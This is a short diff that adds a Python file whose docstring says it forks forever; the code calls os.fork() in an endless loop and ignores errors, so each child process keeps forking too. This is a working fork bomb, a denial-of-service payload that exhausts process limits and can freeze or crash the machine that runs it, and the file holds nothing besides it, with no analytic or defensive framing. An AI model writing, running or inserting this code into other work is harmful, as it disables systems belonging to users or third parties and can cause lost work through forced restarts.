@@ -1,0 +1,9 @@
+"""Forks, and so do its children, without end."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        continue
